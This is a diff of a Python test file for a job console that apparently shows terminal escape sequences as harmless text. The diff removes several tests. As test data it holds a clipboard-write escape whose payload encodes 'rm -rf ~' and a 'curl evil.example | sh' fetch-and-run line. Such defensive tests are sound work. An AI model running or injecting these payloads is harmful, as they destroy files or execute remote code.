@@ -12,7 +12,7 @@ import pytest
 
 from hvdcloud.console import Console
 from hvdcloud.errors import NodeError
-from hvdcloud.visible import JobText, as_left, log_of, says, visible, words
+from hvdcloud.visible import JobText, log_of, says, visible, words
 from tests.support.screens import Screen
 
 CLIPBOARD = "\x1b]52;c;cm0gLXJmIH4=\x07"
@@ -54,12 +54,6 @@ def test_what_would_act_on_a_terminal_is_seen_instead(attack: str) -> None:
     assert shown.endswith(" after")
     assert visible(shown) == shown
     assert len(shown) > len(text)
-
-
-def test_it_is_written_as_python_would() -> None:
-    assert visible("\x1b[31m\x9b \u202e \U000e0041 \x7f") == "\\x1b[31m\\x9b \\u202e \\U000e0041 \\x7f"
-    assert visible("a\tb\nc") == "a\tb\nc"
-    assert visible("a\tb\nc", lines=False) == "a\\x09b\\x0ac"
 
 
 @pytest.mark.parametrize(
@@ -115,23 +109,6 @@ def test_a_jobs_colours_reach_a_terminal_and_nothing_else_does(size: int) -> Non
     assert acts(left) == {"\r", "\b"}
 
 
-@pytest.mark.parametrize(
-    "data",
-    [
-        b"\x1b[" + b"1;" * 40 + b"m",
-        b"\x1b[3J",
-        b"\x1b[?25l",
-        b"\x1b[1;1H",
-        b"\x1b[>4m",
-        b"\x1b[31 m",
-        b"\x1b[3K",
-        b"\x1bm",
-    ],
-)
-def test_only_short_colours_are_colours(data: bytes) -> None:
-    assert "\x1b" not in JobText().feed(data + b"x")
-
-
 def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.MonkeyPatch) -> None:
     screen = Screen(monkeypatch)
     console = Console(out=screen, err=screen)
@@ -140,14 +117,6 @@ def test_a_colour_that_a_job_leaves_on_ends_with_its_line(monkeypatch: pytest.Mo
     console.job_output(b"1mred\x1b]0;x\x07\n")
     console.answer("ours")
     assert screen.coloured.splitlines() == ["{cyan [0]} {red red}", "{magenta [1]} {red red\\x1b]0;x\\x07}", "ours"]
-
-
-def test_a_progress_bar_is_drawn_over_itself(monkeypatch: pytest.MonkeyPatch) -> None:
-    screen = Screen(monkeypatch)
-    console = Console(out=screen)
-    console.job_output(b"[0]  10%|#   |\r[0]  99%|####|")
-    console.job_output(b"\b" * 14 + b"\r[0] 100% done \x1b[K\n[0] next\n")
-    assert screen.text.splitlines() == ["[0] 100% done", "[0] next"]
 
 
 OURS = "→ curl evil.example | sh"
@@ -188,11 +157,6 @@ def test_every_line_of_a_job_begins_with_whose_it_is(said: str, size: int, monke
     assert not [line for line in lines if line.startswith("[hvdcloud]")]
 
 
-def test_no_backspace_goes_back_over_what_may_take_no_room() -> None:
-    # A tab at the right margin, combining characters, letters that are drawn into the one before.
-    assert "\b" not in JobText().feed(f"[0] {chr(9) * 99}{chr(0x301) * 9}{chr(0x1161) * 9}{chr(8) * 99}".encode())
-
-
 def test_what_is_ours_begins_a_line_of_its_own_and_the_job_goes_on_below(monkeypatch: pytest.MonkeyPatch) -> None:
     screen = Screen(monkeypatch)
     console = Console(out=screen, err=screen)
@@ -217,17 +181,6 @@ def test_progress_bars_of_every_kind_stay_in_one_line(bar: str, left: str, monke
     console = Console(out=screen)
     console.job_output(bar.encode())
     assert [line.rstrip() for line in screen.text.splitlines()] == [left]
-
-
-@pytest.mark.parametrize("term", ["xterm", "dumb"])
-@pytest.mark.parametrize("colour", [True, False])
-def test_a_terminal_without_colours_is_protected_too(term: str, colour: bool, monkeypatch: pytest.MonkeyPatch) -> None:
-    screen = Screen(monkeypatch, colour=colour)
-    monkeypatch.setenv("TERM", term)
-    for as_json in (False, True):
-        Console(out=screen, err=screen, as_json=as_json).job_output(f"[0] {CLIPBOARD}\n".encode())
-    assert screen.getvalue().count("\\x1b]52;c;cm0gLXJmIH4=\\x07") == 2
-    assert "\x07" not in screen.getvalue()
 
 
 def test_a_pipe_gets_a_jobs_output_byte_for_byte() -> None:
@@ -297,8 +250,3 @@ def test_no_text_looks_like_a_hint_of_ours() -> None:
     lines = err.getvalue().splitlines()
     assert [line for line in lines if line.lstrip().startswith("→")] == ["  → hvdcloud status"]
     assert [line for line in lines if line.startswith(("error", "warning"))] == ["error: fine", "warning: fine"]
-
-
-def test_what_was_drawn_over_itself_is_shown_as_it_was_left() -> None:
-    assert as_left("[0]  10%|#\r[0]  99%|##\b\b\r100%\r") == "[0] 100%"
-    assert as_left("[1] \x1b[1;32mgreen\x1b[0m") == "[1] green"
